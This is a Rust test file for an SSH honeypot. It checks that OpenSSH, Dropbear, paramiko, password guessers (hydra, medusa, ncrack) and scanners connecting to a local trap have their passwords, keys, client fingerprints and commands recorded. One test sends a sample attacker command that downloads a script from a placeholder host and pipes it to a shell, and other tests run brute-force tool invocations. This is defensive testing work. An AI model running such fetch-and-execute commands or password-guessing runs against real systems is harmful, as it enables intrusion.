//! SSH clients, password guessers and scanners at the SSH trap.

use crate::support::{Traps, nmap, printed, run};
use honeymesh_trap_proto::Definition;
use honeymesh_types::{Signs, Visit};
use std::path::PathBuf;

const PYTHON: &str = "/usr/bin/python3";

fn letting_in(let_in: u8) -> Traps {
    Traps::one(&Definition { service: "ssh".into(), let_in: Some(let_in), ..Definition::default() })
}

fn owned(tries: &[(&str, &str)]) -> Vec<(String, String)> {
    tries.iter().map(|(user, password)| ((*user).into(), (*password).into())).collect()
}

/// What each OpenSSH client gets: no configuration, no memory of host keys.
const PLAIN: [&str; 6] = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"];

/// `ssh` with a password.
async fn ssh(traps: &Traps, options: &[&str], command: &[&str]) -> (Option<i32>, String) {
    let port = traps.port("ssh").to_string();
    let arguments = [&["-p", "s3cret", "ssh"], &PLAIN[..], options, &["-p", &port, "root@127.0.0.1"], command].concat();
    let output = run("sshpass", &arguments).await;
    (output.status.code(), printed(&output))
}

async fn credentials(traps: &mut Traps) -> Visit {
    traps.visit_where(|visit| visit.signs.contains(Signs::CREDENTIALS)).await
}

/// A folder of this test's own, removed at its end.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Self {
        let folder = std::env::temp_dir().join(format!("honeymesh-{name}-{}", std::process::id()));
        std::fs::create_dir_all(&folder).unwrap();
        Self(folder)
    }

    fn file(&self, name: &str) -> String {
        self.0.join(name).to_str().unwrap().to_owned()
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn openssh_gives_its_password_away_with_every_method() {
    let mut traps = letting_in(0);
    for method in ["password", "keyboard-interactive"] {
        let (status, said) = ssh(&traps, &["-v", "-o", &format!("PreferredAuthentications={method}")], &["true"]).await;
        assert!(status == Some(5) && said.contains("resetting send seqnr"), "the strict exchange: {said}");
        assert!(said.contains("Server host key: ssh-ed25519 SHA256:"), "{said}");
        let visit = credentials(&mut traps).await;
        let fields = ["username", "password", "method"].map(|name| visit.fields[name].as_str());
        assert_eq!(fields, ["root", "s3cret", method]);
        assert!(visit.fields["client"].starts_with("SSH-2.0-OpenSSH_") && visit.fields["hassh"].len() == 32);
    }
}

/// Debian 12's client has all of these but ML-KEM, which `ssh::tests` speaks.
#[tokio::test(flavor = "multi_thread")]
async fn openssh_speaks_with_it_whatever_is_agreed_upon() {
    let mut traps = letting_in(0);
    let mut options: Vec<Vec<String>> = Vec::new();
    let methods = [
        "sntrup761x25519-sha512@openssh.com",
        "curve25519-sha256",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
    ];
    options.extend(methods.iter().map(|method| vec![format!("-oKexAlgorithms={method}")]));
    let ciphers = [
        "chacha20-poly1305@openssh.com",
        "aes128-gcm@openssh.com",
        "aes256-gcm@openssh.com",
        "aes128-ctr",
        "aes192-ctr",
        "aes256-ctr",
    ];
    options.extend(ciphers.iter().map(|cipher| vec![format!("-c{cipher}")]));
    let macs = ["umac-64-etm", "umac-128-etm", "hmac-sha2-256-etm", "hmac-sha2-512-etm", "hmac-sha1-etm", "umac-64", "umac-128"];
    let macs = macs
        .iter()
        .map(|mac| format!("{mac}@openssh.com"))
        .chain(["hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"].map(Into::into));
    options.extend(macs.map(|mac| vec!["-caes128-ctr".into(), format!("-m{mac}")]));
    options.extend(["ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256"].map(|key| vec![format!("-oHostKeyAlgorithms={key}")]));
    for set in options {
        let set: Vec<&str> = set.iter().map(String::as_str).collect();
        let (status, said) = ssh(&traps, &set, &["true"]).await;
        assert_eq!(status, Some(5), "{set:?}: {said}");
        assert_eq!(credentials(&mut traps).await.fields["password"], "s3cret", "{set:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_key_is_told_by_the_fingerprint_that_ssh_keygen_prints() {
    let mut traps = letting_in(0);
    let folder = Folder::new("ssh-key");
    let key = folder.file("key");
    run("ssh-keygen", &["-q", "-t", "ed25519", "-N", "", "-f", &key]).await;
    let fingerprint = printed(&run("ssh-keygen", &["-lf", &key]).await);
    let port = traps.port("ssh").to_string();
    let options = ["-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-i", &key, "-p", &port, "root@127.0.0.1", "true"];
    let said = printed(&run("ssh", &[&PLAIN[..], &options].concat()).await);
    assert!(said.contains("Permission denied (publickey,password,keyboard-interactive)"), "{said}");
    let visit = credentials(&mut traps).await;
    assert_eq!((visit.fields["method"].as_str(), visit.fields["key_algorithm"].as_str()), ("publickey", "ssh-ed25519"));
    assert!(fingerprint.contains(&format!(" {} ", visit.fields["key_fingerprint"])), "{fingerprint} {:?}", visit.fields);
}

#[tokio::test(flavor = "multi_thread")]
async fn openssh_is_let_in_and_every_command_is_told() {
    let mut traps = letting_in(1);
    let command = "uname -s; cat /proc/cpuinfo | grep processor | wc -l; wget http://198.51.100.9/x.sh -O- | sh; nosuch";
    let (status, said) = ssh(&traps, &[], &[command]).await;
    assert!(
        status == Some(127) && said.contains("Linux\n") && said.contains("bash: line 1: nosuch: command not found"),
        "{said}"
    );
    let visit = traps.visit_where(|visit| visit.fields.contains_key("command")).await;
    assert_eq!((visit.fields["command"].as_str(), visit.fields["download"].as_str()), (command, "http://198.51.100.9/x.sh"));
    assert_eq!((visit.signs, visit.fields["username"].as_str()), (Signs::RULE, "root"));
    let (status, said) = ssh(&traps, &["-C", "-v", "-o", "RekeyLimit=1K"], &["cat /proc/cpuinfo; whoami"]).await;
    assert!(status == Some(0) && said.contains("root\n") && said.contains("rekey"), "compressed, with new keys: {said}");
    let (status, said) = ssh(&traps, &["-tt"], &["id"]).await;
    assert!(status == Some(0) && said.contains("uid=0(root) gid=0(root) groups=0(root)\r\n"), "{said}");
    let (status, said) = ssh(&traps, &["-s"], &["netconf"]).await;
    assert!(status == Some(255) && said.contains("subsystem request failed on channel 0"), "{said}");
    assert_eq!(traps.visit_where(|visit| visit.fields.contains_key("subsystem")).await.fields["subsystem"], "netconf");
    let (_, said) = ssh(&traps, &["-W", "mail.example:25"], &[]).await;
    assert!(said.contains("open failed: administratively prohibited: open failed"), "{said}");
    assert_eq!(traps.visit_where(|visit| visit.fields.contains_key("forward")).await.fields["forward"], "mail.example:25");
}

#[tokio::test(flavor = "multi_thread")]
async fn guessers_give_their_passwords_away() {
    let mut traps = letting_in(0);
    let port = traps.port("ssh").to_string();
    let folder = Folder::new("ssh-pairs");
    let pairs = folder.file("pairs");
    std::fs::write(&pairs, "root:toor\nadmin:hunter2\n").unwrap();
    let said = printed(&run("hydra", &["-I", "-t", "1", "-C", &pairs, &format!("ssh://127.0.0.1:{port}")]).await);
    assert!(said.contains("0 valid password"), "{said}");
    assert_eq!(traps.tries("ssh", 2).await, owned(&[("root", "toor"), ("admin", "hunter2")]));
    run("medusa", &["-h", "127.0.0.1", "-n", &port, "-u", "root", "-p", "juantech", "-M", "ssh"]).await;
    let medusa = credentials(&mut traps).await;
    assert_eq!(medusa.fields["password"], "juantech");
    // It calls itself something else, and its offer shows what it is: libssh2.
    assert_eq!(
        (medusa.fields["client"].as_str(), medusa.fields["hassh"].as_str()),
        ("SSH-2.0-MEDUSA_1.0", "b4b8ae3d7241d2c1dc54b4df7e8c19d1")
    );
    run("ncrack", &["-p", &format!("ssh:{port},at=1,cl=1,CL=1"), "--user", "root", "--pass", "vizxv", "127.0.0.1"]).await;
    assert_eq!(credentials(&mut traps).await.fields["password"], "vizxv");
    run("sshpass", &["-p", "dbpass", "dbclient", "-y", "-y", "-p", &port, "root@127.0.0.1", "id"]).await;
    let dropbear = credentials(&mut traps).await;
    assert_eq!(
        (dropbear.fields["password"].as_str(), dropbear.fields["hassh"].as_str()),
        ("dbpass", "16574631849ea8d13c926c9905839928")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn medusa_and_paramiko_believe_that_they_were_let_in() {
    let mut traps = letting_in(1);
    let port = traps.port("ssh").to_string();
    let said = printed(&run("medusa", &["-h", "127.0.0.1", "-n", &port, "-u", "root", "-p", "juantech", "-M", "ssh"]).await);
    assert!(said.contains("ACCOUNT FOUND"), "{said}");
    let script = format!(
        "import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n\
         c.connect('127.0.0.1', {port}, 'admin', 'pass', allow_agent=False, look_for_keys=False)\n\
         _, out, _ = c.exec_command('id; hostname')\nprint(out.read().decode(), out.channel.recv_exit_status())\n\
         s = c.invoke_shell()\ns.send('whoami\\n')\nimport time\ntime.sleep(0.5)\nprint(s.recv(9999).decode())\nc.close()\n"
    );
    let said = printed(&run(PYTHON, &["-c", &script]).await);
    assert!(said.contains("uid=1000(admin)") && said.contains("whoami\r\n\x1b[?2004l\radmin\r\n"), "{said}");
    let commands = [
        traps.visit_where(|visit| visit.fields.contains_key("command")).await,
        traps.visit_where(|visit| visit.fields.contains_key("command")).await,
    ];
    assert_eq!(commands.map(|visit| visit.fields["command"].clone()), ["id; hostname", "whoami"]);
}

/// hasshserver, and what ssh-audit and nmap print, are Debian 13's.
#[tokio::test(flavor = "multi_thread")]
async fn scanners_take_it_for_debians_openssh() {
    let traps = letting_in(0);
    let port = traps.port("ssh").to_string();
    let audit = printed(&run("ssh-audit", &["-n", "-p", &port, "127.0.0.1"]).await);
    for line in [
        "(gen) banner: SSH-2.0-OpenSSH_10.0p2 Debian-7+deb13u4",
        "(gen) compression: enabled (zlib@openssh.com)",
        "(kex) sntrup761x25519-sha512@openssh.com",
        "(key) ssh-ed25519",
        "(key) rsa-sha2-512 (3072-bit)",
        "(key) rsa-sha2-256 (3072-bit)",
        "(mac) umac-64-etm@openssh.com",
    ] {
        assert!(audit.contains(line), "{line}: {audit}");
    }
    let scripts = "ssh2-enum-algos,ssh-hostkey,ssh-auth-methods";
    let expected = [
        "OpenSSH 10.0p2 Debian 7+deb13u4 (protocol 2.0)",
        "kex_algorithms: (10)",
        "mac_algorithms: (10)",
        "keyboard-interactive",
    ];
    nmap(&["-sV", "--script", scripts, "-Pn", "-n", "-p", &port, "127.0.0.1"], &expected).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn host_keys_are_the_same_after_a_start() {
    let mut keys = Vec::new();
    for _ in 0..2 {
        let traps = letting_in(0);
        let port = traps.port("ssh").to_string();
        let said = run("ssh-keyscan", &["-p", &port, "127.0.0.1"]).await;
        let said = String::from_utf8_lossy(&said.stdout).into_owned();
        let mut lines: Vec<String> =
            said.lines().filter_map(|line| line.split_once(' ')).map(|(_, key)| key.to_owned()).collect();
        lines.sort();
        assert_eq!(lines.len(), 3, "{said}");
        keys.push(lines);
    }
    assert_eq!(keys[0], keys[1]);
}

/// OpenSSH asks for proof of the keys that it does not know yet, and learns those that are proven.
#[tokio::test(flavor = "multi_thread")]
async fn openssh_learns_the_other_host_keys() {
    let traps = letting_in(1);
    let folder = Folder::new("ssh-known");
    let known = folder.file("known_hosts");
    let port = traps.port("ssh").to_string();
    let file = format!("UserKnownHostsFile={known}");
    let options = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=accept-new", "-o", "UpdateHostKeys=yes", "-o", &file];
    let arguments = [&["-p", "s3cret", "ssh", "-v"], &options[..], &["-p", &port, "root@127.0.0.1", "true"]].concat();
    run("sshpass", &arguments).await;
    assert!(!std::fs::read_to_string(&known).unwrap().contains("ecdsa"), "only of a host that it knows");
    let said = printed(&run("sshpass", &arguments).await);
    let learnt = std::fs::read_to_string(&known).unwrap();
    assert!(
        learnt.contains("ssh-ed25519") && learnt.contains("ecdsa-sha2-nistp256") && learnt.contains("ssh-rsa"),
        "{learnt}\n{said}"
    );
}
